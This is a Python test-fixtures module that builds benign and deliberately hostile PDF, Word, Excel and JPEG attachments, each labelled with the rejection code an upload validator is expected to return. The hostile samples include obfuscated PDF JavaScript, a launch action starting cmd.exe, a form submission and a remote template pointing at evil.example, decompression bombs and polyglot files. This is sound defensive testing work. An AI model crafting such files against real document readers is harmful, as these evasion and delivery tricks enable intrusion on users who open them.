"""Files for papers: honest ones as programs write them, and hostile ones, each with one thing wrong."""

from __future__ import annotations

import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from openpyxl import Workbook

from tests.photos.factories import jpeg

WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELATION = '<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'


def pdf(*objects: bytes, tail: bytes = b"", end: bytes = b"%%EOF\n") -> bytes:
    """A small PDF with these objects besides its one page."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    parts = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, *objects]
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % (number, part) for number, part in enumerate(parts, start=1))
    return b"%PDF-1.7\n" + body + tail + b"trailer<</Root 1 0 R/Size 9>>\nstartxref\n9\n" + end


def stream(content: bytes, kind: bytes = b"", filters: bytes = b"/Filter/FlateDecode") -> bytes:
    packed = zlib.compress(content) if filters == b"/Filter/FlateDecode" else content
    return b"<<%b%b/Length %d>>\nstream\n%b\nendstream" % (kind, filters, len(packed), packed)


def package(main: str = "word/document.xml", kind: str = WORD_TYPE, **parts: str | bytes) -> bytes:
    """A Word file of one line; ``parts`` are put beside it, ``__`` standing for ``/`` and ``_dot_`` for ``.``."""
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", f'<Types><Override PartName="/{main}" ContentType="{kind}"/></Types>')
        file.writestr(main, "<w:document>联席会议纪要</w:document>")
        for name, content in parts.items():
            file.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return made.getvalue()


def workbook() -> bytes:
    made, book = BytesIO(), Workbook()
    book.active.append(["成员单位", "联络人"])
    book.save(made)
    return made.getvalue()


def rels(kind: str, target: str = "http://evil.example/x.dotm") -> str:
    return f"<Relationships>{RELATION.format(kind=kind, target=target)}</Relationships>"


HONEST = {
    "pdf": (pdf(stream(b"BT (x) Tj ET"), stream(b"1 0 <</Type/Font>>", b"/Type/ObjStm")), "pdf"),
    "word": (package(), "docx"),
    "word with a link to click": (package(word___rels__document_dot_xml_dot_rels=rels("hyperlink")), "docx"),
    "word with a picture": (package(word__media__image1_dot_png=b"\x89PNG"), "docx"),
    "excel": (workbook(), "xlsx"),
    "photograph of a page": (jpeg(5), "jpg"),
}

_script = b"<</S/JavaScript/JS(app.alert(1))>>"
REFUSED = {
    "nothing": (b"", "attachment_empty"),
    "a page": (b"<!DOCTYPE html><script>alert(1)</script>", "attachment_kind"),
    "a drawing": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "attachment_kind"),
    "a program": (b"MZ\x90\0" + b"\0" * 500, "attachment_kind"),
    "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "attachment_kind"),
    "rich text": (rb"{\rtf1{\object\objdata 0105}}", "attachment_kind"),
    "pdf not at the beginning": (b"<script>" + pdf(), "attachment_kind"),
    "pdf cut off": (pdf(end=b""), "attachment_damaged"),
    "pdf with more behind it": (pdf() + b"<script>alert(1)</script>" * 50, "attachment_damaged"),
    "pdf and archive in one": (pdf(tail=package()), "attachment_hostile"),
    "pdf with a script": (pdf(_script), "attachment_hostile"),
    "pdf with a script spelt otherwise": (pdf(b"<</S/J#61vaScript/#4aS(x)>>"), "attachment_hostile"),
    "pdf with a packed script": (pdf(stream(b"4 0 " + _script, b"/Type/ObjStm")), "attachment_hostile"),
    "pdf with a packed script spelt otherwise": (
        pdf(stream(b"4 0 <</S/J#61vaScript>>", b"/Type/Obj#53tm")),
        "attachment_hostile",
    ),
    "pdf packed in an odd way": (
        pdf(stream(b"34203020>", b"/Type/ObjStm", b"/Filter/ASCIIHexDecode")),
        "attachment_hostile",
    ),
    "pdf packed twice": (
        pdf(stream(b"x", b"/Type/ObjStm", b"/Filter[/ASCIIHexDecode/FlateDecode]")),
        "attachment_hostile",
    ),
    "pdf packed, said to be plain": (pdf(stream(b"x", b"/Type/ObjStm", b"")), "attachment_hostile"),
    "pdf that unpacks without end": (pdf(stream(b"\0" * 9 * 2**20, b"/Type/ObjStm")), "attachment_hostile"),
    "pdf that starts a program": (pdf(b"<</S/Launch/F(cmd.exe)>>"), "attachment_hostile"),
    "pdf with a file in it": (pdf(b"<</Type/EmbeddedFile>>"), "attachment_hostile"),
    "pdf that sends a form": (pdf(b"<</S/SubmitForm/F(http://evil.example)>>"), "attachment_hostile"),
    "pdf with a password": (pdf(tail=b"trailer<</Encrypt 9 0 R>>\n"), "attachment_hostile"),
    "an archive": (package(main="readme.txt"), "attachment_kind"),
    "word cut off": (package()[:-30], "attachment_damaged"),
    "word with more behind it": (package() + b"MZ", "attachment_damaged"),
    "word with macros": (package(word__vbaProject_dot_bin=b"x"), "attachment_hostile"),
    "word with macros, by its type": (
        package(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "attachment_hostile",
    ),
    "word with a program": (package(word__media__run_dot_exe=b"MZ"), "attachment_hostile"),
    "word with an object": (package(word__embeddings__oleObject1_dot_bin=b"x"), "attachment_hostile"),
    "word with a control": (package(word__activeX__activeX1_dot_xml="<x/>"), "attachment_hostile"),
    "word with a template elsewhere": (
        package(word___rels__settings_dot_xml_dot_rels=rels("attachedTemplate")),
        "attachment_hostile",
    ),
    "word with a picture elsewhere": (
        package(word___rels__document_dot_xml_dot_rels=rels("image", "file://evil/x")),
        "attachment_hostile",
    ),
    "excel with links to other files": (package(xl__externalLinks__externalLink1_dot_xml="<x/>"), "attachment_hostile"),
    "a bomb": (package(word__media__image1_dot_png=b"\0" * 30 * 2**20), "attachment_damaged"),
    "a picture cut off": (jpeg(5)[:-200], "photo_damaged"),
    "a picture with a page behind it": (jpeg(5) + b"<html><script>alert(1)</script>", "photo_carries_more"),
}
